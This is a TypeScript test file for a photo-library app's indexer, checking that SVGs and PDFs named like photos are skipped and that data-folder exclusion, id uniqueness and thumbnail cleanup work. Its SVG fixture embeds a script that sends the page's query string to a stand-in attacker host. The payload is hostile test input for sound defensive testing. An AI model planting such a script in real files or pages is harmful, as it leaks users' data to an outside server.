// What the library holds is decided by real paths: the app never indexes its own data folder (through
// a link to it, or a parent folder of it), nested library folders never lose or double a photo, an id
// is never given to a second photo, no thumbnail outlives its photo, and only raster photos are
// indexed (an SVG is not a photo, whatever its name).
import { test } from 'node:test'
import assert from 'node:assert/strict'
import { copyFileSync, existsSync, mkdirSync, readdirSync, renameSync, rmSync, symlinkSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { Engine } from '../src/main/app/engine.ts'
import { Store } from '../src/main/adapters/lance/store.ts'
import { cifarLibrary, removeDirs, tempDir } from '../fixtures/photos.ts'
import { openIndexed } from './indexed.ts'

const SVG = `<svg xmlns="http://www.w3.org/2000/svg" width="64" height="64"><script>fetch('//evil.example/'+location.search)</script><rect width="64" height="64" fill="red"/></svg>`

const photosOf = async (engine: Engine) => (await engine.store.meta()).map((m) => m.path).sort()
const thumbIds = (data: string) => readdirSync(join(data, 'thumbs')).map((f) => Number(f.replace('.webp', ''))).sort((a, b) => a - b)

test('an SVG or a PDF named like a photo is not indexed: skipped as not a photo', async () => {
  const lib = cifarLibrary(1)
  const data = tempDir()
  writeFileSync(join(lib, 'cat', 'drawing.png'), SVG)
  writeFileSync(join(lib, 'cat', 'drawing.jpg'), SVG)
  writeFileSync(join(lib, 'cat', 'paper.jpg'), '%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n')
  const engine = await openIndexed(lib, data)
  try {
    const paths = await photosOf(engine)
    assert.equal(paths.length, 10)
    assert.ok(!paths.some((p) => /drawing|paper/.test(p)), 'no vector drawing or document is a photo')
    const why = new Map((await engine.skipped()).files.map((s) => [s.path, s.reason]))
    assert.match(why.get(join(lib, 'cat', 'drawing.png')) ?? '', /not a photo \(svg\)/)
    assert.match(why.get(join(lib, 'cat', 'drawing.jpg')) ?? '', /not a photo \(svg\)/)
    assert.match(why.get(join(lib, 'cat', 'paper.jpg')) ?? '', /not a photo|not a readable image/)
  } finally {
    await engine.close()
    removeDirs(lib, data)
  }
})

test('the data folder is never indexed: not through a link to it, and not as part of a parent folder', async () => {
  const parent = cifarLibrary(2) // 20 photos
  const data = join(parent, 'app-data') // the data folder inside a library folder
  mkdirSync(data)
  const elsewhere = tempDir('mrl-links-')
  symlinkSync(data, join(elsewhere, 'link-to-data'))
  const engine = await Engine.open({ dataDir: data })
  try {
    // the data folder, a folder inside it and a link to it are refused
    await assert.rejects(engine.addFolder({ path: data }), /data folder/)
    await assert.rejects(engine.addFolder({ path: join(data, 'thumbs') }), /data folder/)
    await assert.rejects(engine.addFolder({ path: join(elsewhere, 'link-to-data') }), /data folder/)
    // a parent of it is fine, and the scan leaves the data folder out: the count never grows
    await engine.addFolder({ path: parent })
    await engine.idle()
    for (let run = 0; run < 3; run++) {
      assert.equal((await engine.status()).photos, 20, `run ${run}`)
      assert.ok(!(await photosOf(engine)).some((p) => p.startsWith(data)))
      await engine.reindex()
      await engine.idle()
    }
    // and a link to it inside the library leads nowhere
    symlinkSync(data, join(parent, 'cat', 'data-link'))
    await engine.reindex()
    await engine.idle()
    assert.equal((await engine.status()).photos, 20)
  } finally {
    await engine.close()
    removeDirs(parent, elsewhere)
  }
})

test('nested library folders keep each photo once, also after a restart', async () => {
  const lib = cifarLibrary(2)
  const nest = join(lib, 'cat')
  mkdirSync(join(nest, 'sub'))
  copyFileSync(join(lib, 'dog', readdirSync(join(lib, 'dog'))[0]), join(nest, 'sub', 'first.jpg'))
  const data = tempDir()
  let engine = await Engine.open({ dataDir: data })
  try {
    await engine.addFolder({ path: nest })
    await engine.idle()
    // the inner folder is covered already: refused with a reason, or taken as it is
    await engine.addFolder({ path: join(nest, 'sub') }).catch((err: Error) => assert.match(err.message, /already in the library/))
    await engine.idle()
    copyFileSync(join(lib, 'dog', readdirSync(join(lib, 'dog'))[1]), join(nest, 'sub', 'new.jpg'))
    await engine.reindex()
    await engine.idle()
    await engine.close()
    engine = await Engine.open({ dataDir: data })
    const paths = await photosOf(engine)
    assert.equal(paths.filter((p) => p === join(nest, 'sub', 'new.jpg')).length, 1, 'the new photo, once')
    assert.equal(new Set(paths).size, paths.length, 'no path twice')
    assert.equal(paths.length, 2 + 2)
    // a parent added later takes the place of the folders inside it; their photos keep their ids
    const before = new Map((await engine.store.meta()).map((m) => [m.path, m.id]))
    await engine.addFolder({ path: lib })
    await engine.idle()
    assert.deepEqual((await engine.status()).folders.map((f) => f.path), [lib])
    const after = await engine.store.meta()
    assert.equal(after.length, 20 + 2)
    for (const m of after) if (before.has(m.path)) assert.equal(m.id, before.get(m.path), m.path)
  } finally {
    await engine.close()
    removeDirs(lib, data)
  }
})

test('removing duplicate rows keeps one row even when the copies share their id', async () => {
  const lib = cifarLibrary(1)
  const data = tempDir()
  const engine = await openIndexed(lib, data)
  const [row] = await engine.store.meta()
  const { ids, vectors } = await engine.store.embeddings()
  const i = ids.indexOf(row.id)
  await engine.close()
  try {
    const store = await Store.open(join(data, 'library.lance'), 512)
    const embedding = vectors.slice(i * 512, (i + 1) * 512)
    await store.insert([{ ...row, embedding }]) // the same photo appended twice with one id
    assert.equal((await store.meta()).filter((m) => m.path === row.path).length, 2)
    await store.removeDuplicatePaths()
    const left = (await store.meta()).filter((m) => m.path === row.path)
    assert.equal(left.length, 1, 'one row left, not none')
    assert.equal(left[0].id, row.id)
    assert.deepEqual(left[0], row, 'the row kept is the photo as it was')
    const after = await store.embeddings()
    const j = after.ids.indexOf(row.id)
    assert.deepEqual(after.vectors.slice(j * 512, (j + 1) * 512), embedding, 'with its embedding')
    assert.equal(await store.count(), 10)
    store.close()
  } finally {
    removeDirs(lib, data)
  }
})

test('a deleted photo id is never given to another photo, across restarts', async () => {
  const lib = cifarLibrary(1)
  const data = tempDir()
  let engine = await openIndexed(lib, data)
  try {
    const rows = await engine.store.meta()
    const last = rows.reduce((a, b) => (b.id > a.id ? b : a))
    const given = new Set(rows.map((r) => r.id))
    renameSync(last.path, join(lib, 'moved-away.jpg.bak'))
    await engine.reindex()
    await engine.idle()
    assert.equal((await engine.store.meta()).length, 9)
    await engine.close()
    engine = await Engine.open({ dataDir: data })
    renameSync(join(lib, 'moved-away.jpg.bak'), join(lib, 'cat', 'back-again.jpg'))
    await engine.reindex()
    await engine.idle()
    const added = (await engine.store.meta()).find((m) => m.path.endsWith('back-again.jpg'))!
    assert.ok(!given.has(added.id), `id ${added.id} was given before`)
    assert.ok(added.id > Math.max(...given))
  } finally {
    await engine.close()
    removeDirs(lib, data)
  }
})

test('no thumbnail outlives its photo: not after a file turns bad, nor one a killed run left', async () => {
  const lib = cifarLibrary(1)
  const data = tempDir()
  const engine = await openIndexed(lib, data)
  try {
    const rows = await engine.store.meta()
    assert.deepEqual(thumbIds(data), rows.map((r) => r.id).sort((a, b) => a - b))
    // an indexed photo overwritten with garbage: its row goes, and its thumbnail with it
    const victim = rows[0]
    writeFileSync(victim.path, 'no longer a photo')
    // a thumbnail with no row, as a run killed between a thumbnail and its commit leaves
    writeFileSync(join(data, 'thumbs', '987654.webp'), 'stray')
    await engine.reindex()
    await engine.idle()
    assert.equal(existsSync(engine.thumbPath(victim.id)), false, 'the bad file has no thumbnail left')
    assert.equal(existsSync(join(data, 'thumbs', '987654.webp')), false, 'the stray thumbnail is gone')
    assert.deepEqual(thumbIds(data), (await engine.store.meta()).map((r) => r.id).sort((a, b) => a - b))
  } finally {
    await engine.close()
    rmSync(lib, { recursive: true, force: true })
    rmSync(data, { recursive: true, force: true })
  }
})

test('a library folder that cannot be reached (an unplugged drive) keeps its photos until it is back', async () => {
  const lib = cifarLibrary(1)
  const data = tempDir()
  const engine = await openIndexed(lib, data)
  try {
    const before = (await engine.store.meta()).map((m) => `${m.id} ${m.path}`).sort()
    renameSync(lib, `${lib}-unplugged`)
    await engine.reindex()
    await engine.idle()
    assert.equal((await engine.status()).photos, 10, 'nothing deleted while the folder is away')
    assert.match((await engine.skipped()).files.find((f) => f.path === lib)?.reason ?? '', /cannot resolve/)
    renameSync(`${lib}-unplugged`, lib)
    await engine.reindex()
    await engine.idle()
    const status = await engine.status()
    assert.equal(status.progress.total, 0, 'nothing to index again once it is back')
    assert.deepEqual((await engine.store.meta()).map((m) => `${m.id} ${m.path}`).sort(), before)
    assert.deepEqual((await engine.skipped()).files, [])
  } finally {
    await engine.close()
    removeDirs(lib, `${lib}-unplugged`, data)
  }
})
